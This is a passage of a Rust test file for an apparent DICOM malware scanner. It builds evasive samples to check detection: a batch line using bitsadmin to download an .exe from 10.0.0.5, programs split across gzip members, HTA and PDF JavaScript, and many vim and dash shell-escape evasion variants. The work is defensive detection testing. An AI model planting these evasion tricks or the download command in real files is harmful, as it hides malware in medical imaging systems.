    let sum: u32 = huge.iter().map(|&b| u32::from(b)).sum();
    huge[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    huge.extend(&notes);
    // A gzip member stored verbatim (level 0) holding the text and the gzip of the program.
    std::fs::write(dir.path("notes.bin"), &notes).expect("write");
    let stored = Command::new("python3")
        .args([
            "-c",
            "import gzip,sys; sys.stdout.buffer.write(gzip.compress(open('notes.bin','rb').read(), 0, mtime=0))",
        ])
        .current_dir(&dir.0)
        .output()
        .expect("python3")
        .stdout;
    assert!(stored.windows(gz_pe.len()).any(|w| w == gz_pe.as_slice()));
    for (case, value) in [
        ("tar member", tar),
        ("huge tar size", huge),
        ("stored gzip", stored),
    ] {
        let inspection = inspect(&in_private_element(&value));
        assert!(
            has_alert(&inspection, FindingKind::EmbeddedExecutable),
            "{case}: {:#?}",
            inspection.observations
        );
    }
}

/// Review s8-r10: once a search stopped opening a gzip file at each later member, a member
/// was judged by its own bytes only, so a program or a tar cut over two members after a
/// text member was silence: `M` alone and `Z...` alone name nothing, and the rest of a tar
/// cut in a member's data is in no member's own bytes; `tail -c +N file.gz | gunzip`
/// from the second member delivers the program, and `| tar x` the batch file. The
/// members are the real gzip's, the tar GNU tar's.
#[test]
fn a_program_or_tar_cut_over_gzip_members_is_found_from_the_first_of_them() {
    let dir = TempDir::new();
    std::fs::write(dir.path("readme.txt"), b"r".repeat(3000)).expect("write");
    std::fs::write(
        dir.path("run.bat"),
        b"@echo off\r\nbitsadmin /transfer x http://10.0.0.5/a.exe %TEMP%\\a.exe\r\n",
    )
    .expect("write");
    run(
        "tar",
        &["--format=ustar", "-cf", "t.tar", "readme.txt", "run.bat"],
        &dir.0,
    );
    let tar = std::fs::read(dir.path("t.tar")).expect("read");
    let pe = kit::real_pe();
    let gzip = |data: &[u8]| {
        std::fs::write(dir.path("part"), data).expect("write");
        let out = Command::new("gzip")
            .args(["-c", "-n", "part"])
            .current_dir(&dir.0)
            .output()
            .expect("gzip");
        assert!(out.status.success());
        out.stdout
    };
    let text = gzip(&b"Study report: no acute findings.\n".repeat(20));
    for (case, parts) in [
        ("program cut after its first byte", vec![&pe[..1], &pe[1..]]),
        (
            "tar cut in a member's data",
            vec![&tar[..1000], &tar[1000..]],
        ),
        ("tar cut in a header", vec![&tar[..100], &tar[100..]]),
    ] {
        let mut file = text.clone();
        for part in parts {
            file.extend(gzip(part));
        }
        // What the members after the text deliver, read by the real gzip and tar.
        std::fs::write(dir.path("cut.gz"), &file[text.len()..]).expect("write");
        let delivered = Command::new("sh")
            .args([
                "-c",
                "gzip -dc cut.gz | (tar -tf - 2>/dev/null || true); gzip -dc cut.gz | head -c 2",
            ])
            .current_dir(&dir.0)
            .output()
            .expect("sh");
        let delivered = String::from_utf8_lossy(&delivered.stdout);
        assert!(
            delivered.contains("run.bat") || delivered.ends_with("MZ"),
            "{case}: {delivered}"
        );
        let inspection = inspect(&in_private_element(&file));
        assert!(
            has_alert(&inspection, FindingKind::EmbeddedExecutable),
            "{case}: {:#?}",
            inspection.observations
        );
    }
    // Members of pages are judged each from its start, with no limit reached.
    let mut pages = Vec::new();
    for n in 0..200 {
        let mut page = format!("<html><body><p>report {n}</p></body></html>\n").into_bytes();
        page.extend(b"x".repeat(20_000));
        pages.extend(gzip(&page));
    }
    let inspection = inspect(&in_private_element(&pages));
    assert!(
        inspection
            .observations
            .iter()
            .all(|o| o.severity != Severity::Alert && o.kind != FindingKind::NotInspected),
        "{:#?}",
        inspection.observations
    );
}

/// Review s8-r10: a search named one archive warning in all, so after a tar past
/// MAX_ARCHIVE_MEMBERS a separate .tgz holding what cannot be opened (here an xz stream,
/// the real xz's) said nothing of it: the file named only the member limit. Each reason
/// is now a warning once, up to MAX_ARCHIVE_WARNINGS_PER_SEARCH distinct ones; the same
/// limit met again is still one (the many-member test above).
#[test]
fn distinct_archive_warnings_in_one_search_are_each_named_to_their_limit() {
    use pacsguard_dicom::{MAX_ARCHIVE_MEMBERS, MAX_ARCHIVE_WARNINGS_PER_SEARCH};
    let dir = TempDir::new();
    std::fs::write(dir.path("log.txt"), b"scanner log\n".repeat(100)).expect("write");
    run("xz", &["-k", "log.txt"], &dir.0);
    let mut names = Vec::new();
    for n in 0..MAX_ARCHIVE_MEMBERS + 2 {
        let name = format!("f{n:05}");
        std::fs::write(dir.path(&name), b"").expect("write");
        names.push(name);
    }
    std::fs::write(dir.path("list"), names.join("\n")).expect("write");
    run(
        "tar",
        &["--format=ustar", "-cf", "many.tar", "-T", "list"],
        &dir.0,
    );
    let many = std::fs::read(dir.path("many.tar")).expect("read");
    // A .tgz holding `n.xz`, a reason of its own per name, after a line of text (two
    // gzip files end to end are one file of two members to gzip).
    let tgz = |n: usize| {
        let name = format!("log{n}.xz");
        std::fs::copy(dir.path("log.txt.xz"), dir.path(&name)).expect("copy");
        let out = Command::new("sh")
            .args([
                "-c",
                &format!("tar --format=ustar -cf - {name} | gzip -c -n"),
            ])
            .current_dir(&dir.0)
            .output()
            .expect("tar | gzip");
        assert!(out.status.success());
        [&b"\nnext file\n"[..], &out.stdout].concat()
    };
    let warnings = |value: &[u8]| {
        let inspection = inspect(&in_private_element(value));
        assert!(
            !inspection
                .observations
                .iter()
                .any(|o| o.severity == Severity::Alert),
            "{:#?}",
            inspection.observations
        );
        inspection
            .observations
            .iter()
            .filter(|o| o.kind == FindingKind::NotInspected)
            .map(|o| o.detail.clone())
            .collect::<Vec<_>>()
    };
    let mut value = many.clone();
    value.extend(tgz(0));
    let found = warnings(&value);
    assert_eq!(found.len(), 2, "{found:#?}");
    assert!(found[0].contains("MAX_ARCHIVE_MEMBERS"), "{found:#?}");
    assert!(found[1].contains("log0.xz"), "{found:#?}");
    // At the limit every reason is named; one more reason is not.
    for (reasons, named) in [
        (
            MAX_ARCHIVE_WARNINGS_PER_SEARCH,
            MAX_ARCHIVE_WARNINGS_PER_SEARCH,
        ),
        (
            MAX_ARCHIVE_WARNINGS_PER_SEARCH + 1,
            MAX_ARCHIVE_WARNINGS_PER_SEARCH,
        ),
    ] {
        let mut value = many.clone();
        for n in 1..reasons {
            value.extend(tgz(n));
        }
        let found = warnings(&value);
        assert_eq!(found.len(), named, "{reasons}: {found:#?}");
    }
}

/// GZIP_MEMBER_NAMING_BYTES at its value (issue 10): a later gzip member is named by its
/// own bytes and this many bytes after them, as `tail -c +N file.gz | gunzip` delivers it
/// from its start. A member of whitespace, then one of more whitespace ending in `<`,
/// then one starting `hta:application`: the first whitespace member names the HTA when
/// the `:` of `<hta:` is the window's last byte, and one byte further it is the second
/// whitespace member that names it (browsers and mshta skip leading whitespace). The
/// members are the real gzip's.
#[test]
fn a_later_gzip_member_is_named_by_its_own_bytes_and_gzip_member_naming_bytes_after() {
    use pacsguard_dicom::{ArchiveOpened, GZIP_MEMBER_NAMING_BYTES, open_archive};
    let dir = TempDir::new();
    let gzip = |data: &[u8]| {
        std::fs::write(dir.path("part"), data).expect("write");
        Command::new("gzip")
            .args(["-c", "-n", "part"])
            .current_dir(&dir.0)
            .output()
            .expect("gzip")
            .stdout
    };
    let file = |spaces: usize| {
        let mut file = gzip(b"Study notes: no findings.\n");
        file.extend(gzip(b"\n"));
        file.extend(gzip(&[b" ".repeat(spaces), b"<".to_vec()].concat()));
        file.extend(gzip(b"hta:application id=x><script>run()</script>\n"));
        file
    };
    // The second member is 1 byte: its window holds `<hta:` when 1 + spaces + 5 bytes fit.
    let at_limit = GZIP_MEMBER_NAMING_BYTES - 5;
    let named_by = |spaces: usize| match open_archive(&file(spaces)) {
        ArchiveOpened::Carries { member, detail, .. } => format!("{member}: {detail}"),
        other => panic!("{spaces}: {other:?}"),
    };
    assert!(named_by(at_limit).contains("gzip member 2"));
    // What gzip itself writes from the second member on is that page.
    let whole = file(at_limit);
    let second = gzip(b"Study notes: no findings.\n").len();
    std::fs::write(dir.path("from-second.gz"), &whole[second..]).expect("write");
    let out = Command::new("gzip")
        .args(["-dc", "from-second.gz"])
        .current_dir(&dir.0)
        .output()
        .expect("gzip -d");
    assert_eq!(
        out.stdout
            .windows(5)
            .position(|w| w == b"<hta:")
            .map(|at| at + 5),
        Some(1 + GZIP_MEMBER_NAMING_BYTES)
    );
    // One byte further the first whitespace member's window ends inside `<hta:`: the
    // next member, which starts the page too, names it.
    assert!(named_by(at_limit + 1).contains("gzip member 3"));
}

/// Review finding (s9-r10): a page that a later gzip member starts (`<html>`) goes on in
/// the members after it (`gzip -d` writes them as one file), and an `<hta:` anywhere in it
/// makes it an HTA; one more than GZIP_MEMBER_NAMING_BYTES past the page's member it was
/// read as a plain page, no alert and no warning. Now a page is read to its end, as a
/// container is, whatever the distance.
#[test]
fn a_page_started_by_a_later_gzip_member_is_an_hta_wherever_its_hta_tag_is() {
    use pacsguard_dicom::{ArchiveOpened, GZIP_MEMBER_NAMING_BYTES, open_archive};
    let dir = TempDir::new();
    let gzip = |data: &[u8]| {
        std::fs::write(dir.path("part"), data).expect("write");
        Command::new("gzip")
            .args(["-c", "-n", "part"])
            .current_dir(&dir.0)
            .output()
            .expect("gzip")
            .stdout
    };
    for filler in [
        GZIP_MEMBER_NAMING_BYTES - 5,
        GZIP_MEMBER_NAMING_BYTES - 4,
        GZIP_MEMBER_NAMING_BYTES + 1000,
        200_000,
    ] {
        let mut third = b"x".repeat(filler);
        third.extend_from_slice(b"<hta:application id=x><script>run()</script>\n");
        let mut file = gzip(b"Study notes: no findings.\n");
        file.extend(gzip(b"<html>"));
        file.extend(gzip(&third));
        match open_archive(&file) {
            ArchiveOpened::Carries { member, detail, .. } => {
                assert!(
                    member.contains("gzip member 2"),
                    "{filler}: {member}: {detail}"
                );
            }
            other => panic!("{filler}: {other:?}"),
        }
    }
}

/// PDF_HEADER_WINDOW at its value, against qpdf: a header that *starts* in the first
/// kilobyte is a header (qpdf opens a document whose `%PDF-` starts at offset 1023
/// without a warning, and one at 1024 only by reconstructing it). A document with
/// JavaScript whose header started at 1020 to 1023 was no PDF to PacsGuard (a `not-dicom`
/// warning), since the whole `%PDF-` had to be in the window.
#[test]
fn a_pdf_whose_header_starts_on_the_last_byte_of_the_first_kilobyte_is_read() {
    use pacsguard_dicom::PDF_HEADER_WINDOW;
    let dir = TempDir::new();
    let document = kit::pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>");
    let file = |at: usize| [vec![0u8; at], document.clone()].concat();
    let qpdf_warns = |bytes: &[u8]| {
        std::fs::write(dir.path("doc.pdf"), bytes).expect("write");
        let out = Command::new("qpdf")
            .args(["--check", "doc.pdf"])
            .current_dir(&dir.0)
            .output()
            .expect("qpdf (scripts/setup-test-deps.sh)");
        String::from_utf8_lossy(&out.stderr).contains("can't find PDF header")
    };
    let last = PDF_HEADER_WINDOW - 1;
    assert!(!qpdf_warns(&file(last)));
    assert!(qpdf_warns(&file(last + 1)));
    let inspection = inspect(&file(last));
    assert!(
        has_alert(&inspection, FindingKind::ActiveContent),
        "{:#?}",
        inspection.observations
    );
}

/// Review finding (s9-r10): a `%PDF-` header past the first kilobyte is no header to
/// Acrobat, but qpdf, mutool and pdfinfo open the file by repairing it and read the same
/// actions: a document with JavaScript there, in a file that is not DICOM or in an element
/// of a real data set, got only the `not-dicom` warning, or nothing. Each case is opened
/// by qpdf and mutool first; a benign document there stays quiet.
#[test]
fn a_pdf_whose_header_is_past_the_first_kilobyte_is_read_as_qpdf_and_mutool_repair_it() {
    use pacsguard_dicom::PDF_HEADER_WINDOW;
    let dir = TempDir::new();
    let script = kit::pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>");
    let readers_see_the_script = |bytes: &[u8]| {
        std::fs::write(dir.path("doc.pdf"), bytes).expect("write");
        let qpdf = Command::new("qpdf")
            .args(["--qdf", "doc.pdf", "-"])
            .current_dir(&dir.0)
            .output()
            .expect("qpdf (scripts/setup-test-deps.sh)");
        let mutool = Command::new("mutool")
            .args(["show", "doc.pdf", "trailer/Root/OpenAction"])
            .current_dir(&dir.0)
            .output()
            .expect("mutool (scripts/setup-test-deps.sh)");
        String::from_utf8_lossy(&qpdf.stdout).contains("app.alert")
            && String::from_utf8_lossy(&mutool.stdout).contains("app.alert")
    };
    for at in [PDF_HEADER_WINDOW, PDF_HEADER_WINDOW + 1, 5000, 300_000] {
        // Not DICOM: vendor text, then the document.
        let file = [b"x\n".repeat(at / 2), vec![b'y'; at % 2], script.clone()].concat();
        assert!(readers_see_the_script(&file), "{at}");
        let inspection = inspect(&file);
        assert!(
            has_alert(&inspection, FindingKind::ExecutableFile),
            "{at}: {:#?}",
            inspection.observations
        );
        // In a private element of a real data set, far past its first kilobyte.
        let dicom = kit::DicomBuilder::ct("1.2.3.4.5.6")
            .element(
                0x0009,
                0x1001,
                *b"OB",
                &[vec![0u8; at], script.clone()].concat(),
            )
            .build();
        assert!(readers_see_the_script(&dicom), "{at}");
        let inspection = inspect(&dicom);
        assert!(
            has_alert(&inspection, FindingKind::ActiveContent),
            "{at}: {:#?}",
            inspection.observations
        );
    }
    // A document that does nothing, that far in: no alert, only the not-DICOM warning.
    let benign = [vec![b'x'; 5000], kit::pdf("")].concat();
    let inspection = inspect(&benign);
    assert!(
        !inspection
            .observations
            .iter()
            .any(|o| o.severity == Severity::Alert),
        "{:#?}",
        inspection.observations
    );
}

/// Review finding (s9-r10): an ex range made of search patterns or marks (`/x/!cmd`,
/// `?x?!cmd`, `1,/x/!cmd`, `'a!cmd`, `'a,'A!cmd`, `\&!cmd`) filters the lines it names
/// through the shell, and the real vim ran each after a line appended to its buffer (so
/// that the pattern matches, the mark is set): none was found, since only line numbers,
/// `.$%+-,;` and `'` were taken for a range. A pattern of MAX_EX_PATTERN_BYTES is read
/// to its opening delimiter; one byte longer it is no address.
#[test]
fn ex_ranges_of_patterns_and_marks_before_a_shell_escape_are_found() {
    use pacsguard_dicom::MAX_EX_PATTERN_BYTES;
    let garbage = b"\0\0\0DICM\x02\0\x01\0OB\0\0\x01\x02\n\x7f\x80 garbage\n".as_slice();
    // An appended line holding `x`, marks a and A on it, a substitution to repeat.
    let buffer = b"append\nx\n.\n1ka\n1kA\ns/x/x/\n".as_slice();
    // A pattern of MAX_EX_PATTERN_BYTES - 1 bytes that matches `x`: its opening `/` is
    // MAX_EX_PATTERN_BYTES before its closing one.
    let long = format!("/x{}/", "x*".repeat((MAX_EX_PATTERN_BYTES - 2) / 2));
    assert_eq!(long.len(), MAX_EX_PATTERN_BYTES + 1);
    for escape in [
        &b"/x/!sh -c 'echo x > RAN'\n"[..],
        b"?x?!sh -c 'echo x > RAN'\n",
        b"1,/x/!sh -c 'echo x > RAN'\n",
        b"/\\/*x/!sh -c 'echo x > RAN'\n",
        b"'a!sh -c 'echo x > RAN'\n",
        b"'a,'A!sh -c 'echo x > RAN'\n",
        b":'a;'A !sh -c 'echo x > RAN'\n",
        b"'ar !sh -c 'echo x > RAN'\n",
        b"\\&!sh -c 'echo x > RAN'\n",
        [long.as_bytes(), b"!sh -c 'echo x > RAN'\n"]
            .concat()
            .leak(),
    ] {
        let file = [garbage, buffer, escape, b"q!\n"].concat();
        if Path::new("/usr/bin/vim").exists() {
            assert!(
                runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]),
                "vim did not run {:?}",
                String::from_utf8_lossy(escape)
            );
        }
        let found = pacsguard_dicom::find_ex_command(&file);
        assert!(
            found
                .as_ref()
                .is_some_and(|f| f.severity == Severity::Alert),
            "{:?}: {found:?}",
            String::from_utf8_lossy(escape)
        );
    }
    // One byte past the pattern limit: not taken for an address.
    let longer = format!("\n/{}/!sh -c id\n", "x*".repeat(MAX_EX_PATTERN_BYTES / 2));
    assert_eq!(pacsguard_dicom::find_ex_command(longer.as_bytes()), None);
    // Slashes and marks in prose are no range.
    for text in [
        &b"see http://x/!sh -c id\n"[..],
        b"and/or!sh -c id\n",
        b"it's a!sh -c id\n",
        b"Q?!sh -c id\n",
    ] {
        assert_eq!(pacsguard_dicom::find_ex_command(text), None, "{text:?}");
    }
}

/// Runs `script` with dash as `sh file` does, with `SHELL` set as a login session sets
/// it, and says whether it printed RAN.
fn dash_runs(script: &[u8]) -> bool {
    let dir = TempDir::new();
    let file = dir.path("script.dcm");
    std::fs::write(&file, script).expect("write");
    let out = Command::new("dash")
        .arg(&file)
        .current_dir(&dir.0)
        .env("PATH", "/usr/bin:/bin")
        .env("SHELL", "/bin/sh")
        .env_remove("m")
        .output()
        .expect("dash (Debian's /bin/sh)");
    String::from_utf8_lossy(&out.stdout).contains("RAN")
}

/// Session 11: a command named by a parameter expansion counted whatever the parameter
/// held, and an unset `$m` expands to nothing: random bytes hold `!$m;` about once per
/// 100 MiB, so a 300 MiB private element of compressed pixel data raised a false ex/ed
/// alert. A name made by expansions now runs only where the expansion has a value (given
/// by the script, a default written in it, `set`, a function's arguments, the
/// environment's programs), proven here with dash and vim both ways; and an unset name
/// vanishes, so the word after it is the command.
#[test]
fn expansions_run_a_command_only_where_they_have_a_value() {
    let lead = "\u{1}\u{2}binary\u{7f}\n";
    for case in [
        "X=sh; $X -c 'echo RAN'\n",
        "export X=sh\n$X -c 'echo RAN'\n",
        "read X <<E\nsh\nE\n$X -c 'echo RAN'\n",
        "for X in sh; do $X -c 'echo RAN'; done\n",
        ": ${X:=sh}; $X -c 'echo RAN'\n",
        "${X:-sh} -c 'echo RAN'\n",
        "X=sh; ${X%x} -c 'echo RAN'\n",
        "set -- sh; $1 -c 'echo RAN'\n",
        "f() { \"$@\"; }\nf sh -c 'echo RAN'\n",
        "for i in 1 2; do $x -c 'echo RAN'; x=sh; done\n",
        "$SHELL -c 'echo RAN'\n",
        "$m sh -c 'echo RAN'\n",
        "X=sh; echo $($X -c 'echo RAN')\n",
    ] {
        let script = format!("{lead}{case}");
        assert!(dash_runs(script.as_bytes()), "dash does not run {case:?}");
        let found = find_shell_command(script.as_bytes());
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{case:?}: {found:?}"
        );
    }
    for case in [
        "$m -c 'echo RAN'\n",
        "${m} -c 'echo RAN'\n",
        "${m%x} -c 'echo RAN'\n",
        "${#m} -c 'echo RAN'\n",
        "$1 -c 'echo RAN'\n",
        "\"$@\" -c 'echo RAN'\n",
        "m=; $m -c 'echo RAN'\n",
        "$SHELLX -c 'echo RAN'\n",
    ] {
        let script = format!("{lead}{case}");
        assert!(!dash_runs(script.as_bytes()), "dash runs {case:?}");
        assert_eq!(find_shell_command(script.as_bytes()), None, "{case:?}");
    }

    // The same in vim's `:!` (a `sh -c` string: `$0` is the shell) and after vim's own
    // `:let $X = …`.
    let garbage = b"\0\0\0DICM\x02\0\x01\0OB\0\0\x01\x02\n\x7f\x80 garbage\n".as_slice();
    let vim = |escape: &[u8]| {
        let file = [garbage, escape, b"q!\n"].concat();
        let ran = Path::new("/usr/bin/vim").exists()
            && runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]);
        (file, ran)
    };
    for escape in [
        &b"!$0 -c 'echo x > RAN'\n"[..],
        b"!X=sh; $X -c 'echo x > RAN'\n",
        b"!$m sh -c 'echo x > RAN'\n",
        b"let $X = 'sh'\n!$X -c 'echo x > RAN'\n",
    ] {
        let (file, ran) = vim(escape);
        assert!(
            ran || !Path::new("/usr/bin/vim").exists(),
            "vim did not run {escape:?}"
        );
        let found = pacsguard_dicom::find_ex_command(&file);
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{escape:?}: {found:?}"
        );
    }
    for escape in [
        &b"!$m -c 'echo x > RAN'\n"[..],
        b"!${m} -c 'echo x > RAN'\n",
        b"!$1 -c 'echo x > RAN'\n",
        b"!$@ -c 'echo x > RAN'\n",
        b"!$X -c 'echo x > RAN'\nlet $X = 'sh'\n",
    ] {
        let (file, ran) = vim(escape);
        assert!(!ran, "vim runs {escape:?}");
        assert_eq!(pacsguard_dicom::find_ex_command(&file), None, "{escape:?}");
    }
    // What random bytes hold and runs nothing: an unset name, a command given no operand
    // (vim's `:!` gives it no input from the file), a weak command with only a
    // redirection, a shell given a bare word, `.` of a path below a directory that is
    // not there. Each was found by random bytes rich in shell syntax.
    for escape in [
        &b"\n!$m;\n"[..],
        b"\n!$C>.?\n",
        b"\n!G$xC;\n",
        b"\n!$_ >c_\n",
        b"\n!nc\n",
        b"\n!sh\n",
        b"\n!\x89%;mv\n",
        b"\n!mv>V5T\n",
        b"\n!$0 7*|P\n",
        b"\n!. 'CH/1g'\n",
        b"\n!nc .,dxD\xec\x8e\n",
        b"\n!D}2nT\x9b.n&$_.2#^R] sw\n",
    ] {
        assert_eq!(pacsguard_dicom::find_ex_command(escape), None, "{escape:?}");
    }
}

/// MAX_SHELL_VALUED_NAMES: a script that gives that many names a value is followed name
/// by name (an unset `$m` still runs nothing); one name more and every parameter counts
/// as having a value (the command is reported: more, never fewer).
#[test]
fn valued_names_at_the_limit_are_followed_and_past_it_every_name_counts() {
    use pacsguard_dicom::MAX_SHELL_VALUED_NAMES;
    let script = |names: usize| {
        let mut script = String::from("\u{1}binary\n");
        for n in 0..names {
            script.push_str(&format!("v{n}=1\n"));
        }
        script.push_str("$m -c 'echo RAN'\n");
        script
    };
    assert_eq!(
        find_shell_command(script(MAX_SHELL_VALUED_NAMES).as_bytes()),
        None
    );
    let past = find_shell_command(script(MAX_SHELL_VALUED_NAMES + 1).as_bytes());
    assert!(
        past.as_ref().is_some_and(|c| c.severity == Severity::Alert),
        "{past:?}"
    );
}

/// Review s11-r10: a builtin that gives a name a value counted only when written bare:
/// `"read" X`, `command read X`, `command set -- …` run the builtin all the same, and
/// `getopts` gives `OPTARG` the option's argument. Each of these ran `sh -c` under dash
/// and got no alert once a name's value was required.
#[test]
fn quoted_and_wrapped_builtins_and_getopts_give_names_a_value() {
    let lead = "\u{1}\u{2}binary\u{7f}\n";
    for case in [
        "\"read\" X <<E\nsh\nE\n$X -c 'echo RAN'\n",
        "command read X <<E\nsh\nE\n$X -c 'echo RAN'\n",
        "\"set\" -- sh; $1 -c 'echo RAN'\n",
        "command set -- sh; $1 -c 'echo RAN'\n",
        "set -- -a sh; getopts a: o; $OPTARG -c 'echo RAN'\n",
        "getopts o: X -o sh; $OPTARG -c 'echo RAN'\n",
    ] {
        let script = format!("{lead}{case}");
        assert!(dash_runs(script.as_bytes()), "dash does not run {case:?}");
        let found = find_shell_command(script.as_bytes());
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{case:?}: {found:?}"
        );
    }
    // Without the builtin, OPTARG is unset and runs nothing.
    let script = format!("{lead}$OPTARG -c 'echo RAN'\n");
    assert!(!dash_runs(script.as_bytes()));
    assert_eq!(find_shell_command(script.as_bytes()), None);
}

/// Review s11-r10: vim hands a `:!` line to its 'shell' option (`{shell} -c {line}`), and
/// the file itself can set that option first: after `:set shell=python3` the line is
/// Python, which the shell model reads as no command at all. Each case is run by vim
/// first; an escape after the option is set counts whatever its text, one before it (or
/// a `:set` of another option) is judged by the shell model as before.
#[test]
fn an_escape_after_vims_shell_option_is_set_counts_whatever_it_runs() {
    let garbage = b"\0\0\0DICM\x02\0\x01\0OB\0\0\x01\x02\n\x7f\x80 garbage\n".as_slice();
    let vim = |escape: &[u8]| {
        let file = [garbage, escape, b"q!\n"].concat();
        let ran = Path::new("/usr/bin/vim").exists()
            && runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]);
        (file, ran)
    };
    for escape in [
        &b"set shell=python3\n!open('RAN','w')\n"[..],
        b"set sh=python3 shcf=-c\n!open('RAN','w')\n",
        b"se nocp sh:python3\n!open('RAN','w')\n",
        b"let &shell = 'python3'\n!open('RAN','w')\n",
        b"let &g:sh='python3'\n!open('RAN','w')\n",
        b"exe \"set sh=python3\"\n!open('RAN','w')\n",
        b"set shell=python3 | !open('RAN','w')\n",
        b"set shell=perl shcf=-e\nexe \"!open(F,'>RAN')\"\n",
    ] {
        let (file, ran) = vim(escape);
        assert!(
            ran || !Path::new("/usr/bin/vim").exists(),
            "vim did not run {escape:?}"
        );
        let found = pacsguard_dicom::find_ex_command(&file);
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{escape:?}: {found:?}"
        );
    }
    for escape in [
        &b"!open('RAN','w')\n"[..],
        b"set shiftwidth=4\n!open('RAN','w')\n",
        b"!open('RAN','w')\nset shell=python3\n",
    ] {
        let (file, ran) = vim(escape);
        assert!(!ran, "vim runs {escape:?}");
        assert_eq!(pacsguard_dicom::find_ex_command(&file), None, "{escape:?}");
    }
}

/// Review s11-r10: once a command named by an expansion needed a value, two ways of
/// giving one were missed. A shell named by the environment given its input by the
/// script (`$SHELL <<E`) runs that input, with no operand (dash); and vim sets an
/// environment variable by `let [$X] = […]`, `let$X=…` and `for $X in […]` as well as
/// by `let $X = …` (vim). Each ran `sh -c` with no alert.
#[test]
fn environment_programs_given_input_and_vims_other_assignments_have_values() {
    let lead = "\u{1}\u{2}binary\u{7f}\n";
    for case in [
        "$SHELL<<E\necho RAN\nE\n",
        "$SHELL < /dev/stdin <<E\necho RAN\nE\n",
    ] {
        let script = format!("{lead}{case}");
        assert!(dash_runs(script.as_bytes()), "dash does not run {case:?}");
        let found = find_shell_command(script.as_bytes());
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{case:?}: {found:?}"
        );
    }
    let garbage = b"\0\0\0DICM\x02\0\x01\0OB\0\0\x01\x02\n\x7f\x80 garbage\n".as_slice();
    for escape in [
        &b"let [$X] = ['sh']\n!$X -c 'echo x > RAN'\n"[..],
        b"let [$X, $Y] = ['sh', 'c']\n!$X -$Y 'echo x > RAN'\n",
        b"let$X='sh'\n!$X -c 'echo x > RAN'\n",
        b"for $X in ['sh'] | endfor\n!$X -c 'echo x > RAN'\n",
    ] {
        let file = [garbage, escape, b"q!\n"].concat();
        if Path::new("/usr/bin/vim").exists() {
            assert!(
                runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]),
                "vim did not run {escape:?}"
            );
        }
        let found = pacsguard_dicom::find_ex_command(&file);
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{escape:?}: {found:?}"
        );
    }
    // A variable of vim's own that is not the environment leaves `$X` unset.
    let file = [garbage, b"let x = $HOME\n!$X -c 'echo x > RAN'\nq!\n"].concat();
    assert_eq!(pacsguard_dicom::find_ex_command(&file), None);
}

/// Review s11-r10: a command named by an expansion in a function's body was judged when
/// the definition ended, before the script gave the name a value and called it: dash
/// ran `sh -c` with no alert. Names in function bodies are judged at the script's end;
/// one never given a value still runs nothing.
#[test]
fn names_in_function_bodies_take_values_given_before_the_call() {
    let lead = "\u{1}\u{2}binary\u{7f}\n";
    for case in [
        "f() { $X -c 'echo RAN'; }\nX=sh; f\n",
        "f() ( $X -c 'echo RAN' )\nX=sh; f\n",
        "f() { \"$X\" -c 'echo RAN'; }\nread X <<E\nsh\nE\nf\n",
    ] {
        let script = format!("{lead}{case}");
        assert!(dash_runs(script.as_bytes()), "dash does not run {case:?}");
        let found = find_shell_command(script.as_bytes());
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{case:?}: {found:?}"
        );
    }
    let case = "f() { $m -c 'echo RAN'; }\nX=sh; f\n";
    let script = format!("{lead}{case}");
    assert!(!dash_runs(script.as_bytes()));
    assert_eq!(find_shell_command(script.as_bytes()), None, "{case:?}");
}

/// Review s11-r10: a variable of a vim script named `shell` (`let s:shell = ""`, in vim's
/// own syntax/sh.vim) is not the 'shell' option: an escape after it is judged by the
/// shell model as before.
#[test]
fn a_script_variable_named_shell_is_not_the_shell_option() {
    for text in [
        &b"let s:shell = \"\"\n! delc ShFoldFunctions\n"[..],
        b"let b:is_kornshell= 1\n!open('RAN','w')\n",
        b"let g:sh = 1\n!open('RAN','w')\n",
    ] {
        assert_eq!(pacsguard_dicom::find_ex_command(text), None, "{text:?}");
    }
    let text = b"let &l:sh = 'python3'\n!open('RAN','w')\n";
    assert!(pacsguard_dicom::find_ex_command(text).is_some());
}

/// Runs `program args… file` on `bytes` written to a file and returns its stdout and
/// stderr, and whether it succeeded (qpdf's 3 is "read, with warnings").
fn read_with(program: &str, before: &[&str], bytes: &[u8], after: &[&str]) -> (bool, String) {
    let dir = TempDir::new();
    let file = dir.path("file.dcm");
    std::fs::write(&file, bytes).expect("write");
    let out = Command::new(program)
        .args(before)
        .arg(&file)
        .args(after)
        .output()
        .unwrap_or_else(|e| panic!("{program} (scripts/setup-test-deps.sh installs it): {e}"));
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    (matches!(out.status.code(), Some(0) | Some(3)), text)
}

/// Issue 10 (session 12): a DICOM file with no PDF header anywhere, whose element holds a
/// catalog with an open action, is opened by qpdf (when a trailer names the catalog) and
/// by mutool (with or without a trailer: it takes the object typed `/Catalog`), each
/// rebuilding the cross-reference table ("can't find PDF header"); an
/// `%!PS-Adobe-3.0 EPSF-3.0` first line changes nothing for them. It got no finding.
/// Each case is proven with the readers themselves, then screened: an alert. The same
/// objects without an action, or objects without a catalog, are no finding.
#[test]
fn a_pdf_without_a_header_that_qpdf_and_mutool_rebuild_is_read() {
    let objects = b"\n1 0 obj\n<</Type/Catalog/Pages 3 0 R/OpenAction 2 0 R>>\nendobj\n2 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj\n3 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n".to_vec();
    let trailer = b"trailer\n<</Root 1 0 R>>\n".as_slice();
    let inline =
